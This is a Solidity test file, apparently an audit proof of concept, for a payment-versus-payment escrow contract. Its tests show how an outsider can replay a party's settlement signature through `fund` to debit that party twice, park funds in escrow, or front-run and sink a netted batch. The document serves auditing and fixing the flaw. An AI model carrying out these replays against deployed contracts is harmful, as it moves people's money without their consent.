// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IPvPEscrow} from "../../src/interfaces/IPvPEscrow.sol";
import {SettlementBase} from "../utils/SettlementBase.sol";

/// @notice Audit PoC (Medium). Promise: money moves only as both parties signed it; every swap ends with both
///         legs settled or both refunded. `fund` accepts the same EIP-712 `Swap` signature as `settle` and, for
///         leg B, checks neither party A's nonce nor whether the swap already settled. Party B's signature is
///         public in the calldata of every `settle` / `settleBatch`, so ANY caller can pull amount B from party
///         B a second time and park it in the escrow until the deadline (B's liquidity is taken without B's
///         consent; the swap settled once and also holds a stray leg). Each test asserts that a party is debited
///         once per swap and fails today.
contract PvPSignatureReplayAudit is SettlementBase {
    uint256 internal constant AMOUNT = 100_000_00;

    function test_SettledSwapCannotDebitPartyBAgainViaFund() external {
        IPvPEscrow.Swap memory swap = _swap(AMOUNT, 1);
        swap.deadline = uint64(vm.getBlockTimestamp() + 1 days);
        IPvPEscrow.Signature memory sigA = _sign(aliceKey, swap);
        IPvPEscrow.Signature memory sigB = _sign(bobKey, swap);
        pvp.settle(swap, sigA, sigB); // bob pays amountB once, as signed
        uint256 bobAfterSettle = hkd.balanceOf(bob);

        // A stranger copies bob's signature from the settle transaction.
        vm.prank(outsider);
        try pvp.fund(swap, IPvPEscrow.Leg.B, _expand(sigB)) {} catch {}

        assertEq(hkd.balanceOf(bob), bobAfterSettle, "bob debited a second time for a swap that already settled");
        assertEq(hkd.balanceOf(address(pvp)), 0, "the escrow holds a leg of a settled swap");
    }

    function test_BatchSettledSwapCannotDebitPartyBAgainViaFund() external {
        IPvPEscrow.Swap[] memory swaps = new IPvPEscrow.Swap[](1);
        swaps[0] = _swap(AMOUNT, 7);
        swaps[0].deadline = uint64(vm.getBlockTimestamp() + 1 days);
        IPvPEscrow.Signature[] memory sigsA = new IPvPEscrow.Signature[](1);
        IPvPEscrow.Signature[] memory sigsB = new IPvPEscrow.Signature[](1);
        sigsA[0] = _sign(aliceKey, swaps[0]);
        sigsB[0] = _sign(bobKey, swaps[0]);
        (, uint256 settled) = pvp.settleBatch(swaps, sigsA, sigsB);
        assertEq(settled, 1);
        uint256 bobAfterBatch = hkd.balanceOf(bob);

        vm.prank(outsider);
        try pvp.fund(swaps[0], IPvPEscrow.Leg.B, _expand(sigsB[0])) {} catch {}

        assertEq(hkd.balanceOf(bob), bobAfterBatch, "bob debited a second time for a swap the batch settled");
    }

    /// @dev The signature bob gave for direct settlement is replayed in escrow mode by a front-runner: bob's leg
    ///      is parked, the relayer's settle then takes amountB again. Bob pays 2 x amountB for one swap until
    ///      the deadline passes and somebody reclaims.
    function test_DirectSettleSignatureCannotBeReplayedToParkPartyBLeg() external {
        IPvPEscrow.Swap memory swap = _swap(AMOUNT, 2);
        swap.deadline = uint64(vm.getBlockTimestamp() + 1 days);
        IPvPEscrow.Signature memory sigA = _sign(aliceKey, swap);
        IPvPEscrow.Signature memory sigB = _sign(bobKey, swap);
        uint256 bobBefore = hkd.balanceOf(bob);

        vm.prank(outsider); // front-runs the relayer's settle with bob's signature from the mempool
        try pvp.fund(swap, IPvPEscrow.Leg.B, _expand(sigB)) {} catch {}
        pvp.settle(swap, sigA, sigB);

        assertEq(bobBefore - hkd.balanceOf(bob), swap.amountB, "bob paid more than his one leg for one swap");
    }

    /// @dev The same replay sinks a whole netted batch: a front-runner parks one party's leg with that party's
    ///      signature taken from the pending batch, the batch then books the swap again (the nonce is untouched)
    ///      and the party can no longer cover its net debit, so every swap in the batch reverts with it.
    function test_NettedBatchCannotBeSunkByParkingAPartysLegWithItsOwnSignature() external {
        IPvPEscrow.Swap[] memory swaps = new IPvPEscrow.Swap[](2);
        swaps[0] = _swap(552_995_39, 11); // bob pays 599,999.99 HKD of his 1,000,000.00
        swaps[1] = _swap(1_000_00, 12);
        swaps[1].partyA = carol; // an unrelated swap in the same batch
        swaps[1].partyB = dave;
        IPvPEscrow.Signature[] memory sigsA = new IPvPEscrow.Signature[](2);
        IPvPEscrow.Signature[] memory sigsB = new IPvPEscrow.Signature[](2);
        sigsA[0] = _sign(aliceKey, swaps[0]);
        sigsB[0] = _sign(bobKey, swaps[0]);
        sigsA[1] = _sign(carolKey, swaps[1]);
        sigsB[1] = _sign(daveKey, swaps[1]);

        vm.prank(outsider); // front-runs the batch with bob's signature from its calldata
        try pvp.fund(swaps[0], IPvPEscrow.Leg.B, _expand(sigsB[0])) {} catch {}

        try pvp.settleBatch(swaps, sigsA, sigsB) {} catch {}
        assertTrue(pvp.nonceUsed(carol, 12), "an unrelated swap was sunk with the batch");
        assertTrue(pvp.nonceUsed(alice, 11), "the batch could not settle the swap whose leg was parked");
    }

    /// @dev Leg A variant: a front-runner replays alice's settle signature through fund(Leg.A). Alice's nonce is
    ///      consumed and her CNY parked; the relayer's settle then reverts PvPNonceUsed and the swap is stuck in
    ///      escrow mode (alice's liquidity held) until someone funds leg B or the deadline passes.
    function test_DirectSettleSignatureCannotBeReplayedToParkPartyALeg() external {
        IPvPEscrow.Swap memory swap = _swap(AMOUNT, 3);
        swap.deadline = uint64(vm.getBlockTimestamp() + 1 days);
        IPvPEscrow.Signature memory sigA = _sign(aliceKey, swap);
        IPvPEscrow.Signature memory sigB = _sign(bobKey, swap);

        vm.prank(outsider);
        try pvp.fund(swap, IPvPEscrow.Leg.A, _expand(sigA)) {} catch {}
        try pvp.settle(swap, sigA, sigB) {} catch {}

        assertEq(cny.balanceOf(bob), OPENING + AMOUNT, "the signed direct settlement did not happen");
        assertEq(cny.balanceOf(address(pvp)), 0, "alice's leg sits in escrow without her asking for escrow mode");
    }
}
